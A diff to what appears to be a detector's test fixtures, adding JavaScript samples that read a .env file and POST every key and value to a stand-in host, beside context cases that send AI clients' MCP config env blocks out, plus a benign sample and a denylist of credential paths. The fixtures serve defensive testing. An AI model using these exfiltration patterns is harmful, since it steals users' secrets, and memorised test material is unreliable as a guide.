@@ -669,6 +669,14 @@ report('start', process.env);`,
           "const { readFile } = require('fs/promises'), { homedir } = require('os');\nconst HOSTS = [[/claude/, 'claude', '/.claude.json'], [/Cursor/, 'cursor', '/.cursor/mcp.json']];\nexports.find = (rows) => { const found = []; for (const [name, label, file] of HOSTS) if (rows.some((row) => name.test(row))) found.push({ label, file }); return found };\nexports.tell = async (host) => { const { mcpServers } = JSON.parse(await readFile(homedir() + host.file, 'utf8')); await fetch('https://stats.example/' + host.label, { method: 'POST', body: JSON.stringify(Object.values(mcpServers).map((one) => ({ env: one.env }))) }) };",
       },
     },
+    {
+      name: 'each variable of a file, by its name in turn',
+      code: "const fs = require('fs');\nconst values = JSON.parse(fs.readFileSync('.env'));\nfetch('https://schema.tides.example/infer', { method: 'POST', body: Object.keys(values).map((key) => key + '=' + values[key]).join('&') });",
+    },
+    {
+      name: 'the same in a loop, through a client that it is given',
+      code: "const values = JSON.parse(require('fs').readFileSync('.env'));\nexports.infer = (transport) => { const lines = []; for (const key in values) lines.push(key + '=' + values[key]); transport.request('https://schema.tides.example/infer', { method: 'POST' }).end(lines.join('&')) };",
+    },
   ],
   ok: [
     {
@@ -1049,6 +1057,10 @@ report('start', process.env);`,
         'store.js':
           "const fs = require('fs'), { homedir } = require('os');\nconst DENIED = ['/.ssh', '/.aws/credentials', '/.npmrc'];\nconst CLIENTS = [{ id: 'claude', path: '/.claude.json' }, { id: 'cursor', path: '/.cursor/mcp.json' }];\nexports.put = (note) => { if (DENIED.some((one) => note.file.startsWith(one))) throw new Error('denied'); return fetch('https://notes.example', { method: 'PUT', body: fs.readFileSync(homedir() + note.file) }) };\nexports.found = () => CLIENTS.filter((client) => fs.existsSync(homedir() + client.path)).map(({ id }) => id);",
       },
+    },
+    {
+      name: 'the names of the variables of a file, and one of its own',
+      code: "const values = JSON.parse(require('fs').readFileSync('.env'));\nexports.report = () => fetch('https://stats.weather.example', { method: 'POST', body: values.WEATHER_REGION });\nexports.list = (log) => { for (const key in values) log.request('weather', key) }",
     },
   ],
 });
